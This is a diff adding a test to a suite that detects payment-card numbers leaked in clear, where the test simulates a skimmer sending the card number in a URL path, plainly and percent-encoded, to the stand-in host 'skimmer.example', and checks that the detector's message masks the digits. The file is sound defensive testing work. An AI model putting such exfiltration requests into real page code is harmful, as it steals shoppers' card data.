@@ -215,6 +215,17 @@ describe('capture: card digits in clear', () => {
     expect((await failure(() => capture.expectNoCardDigits())).message).toMatch(/^GET \/thanks: the url carried the card number in clear/)
   })
 
+  it('names a request whose path carries the number without repeating it: the digits shown as #', async () => {
+    const { page, capture } = await started()
+    page.send('POST', `${SHOP}/api/payments`, paymentBody(await encryptCard(typed, certificate)))
+    await capture.nextCard('**/api/payments')
+    page.send('GET', `https://skimmer.example/c/${card.number}.gif`)
+    page.send('GET', `https://skimmer.example/e/${[...card.number].map((d) => `%3${d}`).join('')}`)
+    const message = (await failure(() => capture.expectNoCardDigits())).message
+    expect(message).toContain(`GET /c/${'#'.repeat(card.number.length)}.gif: the url carried the card number in clear`)
+    expect(message).not.toMatch(/\d{4}/)
+  })
+
   it('does not flag what a payment page sends anyway: JWEs, order data, ids, browser info', () => {
     const requests = Array.from({ length: 200 }, (_, i) => ({
       method: 'POST',
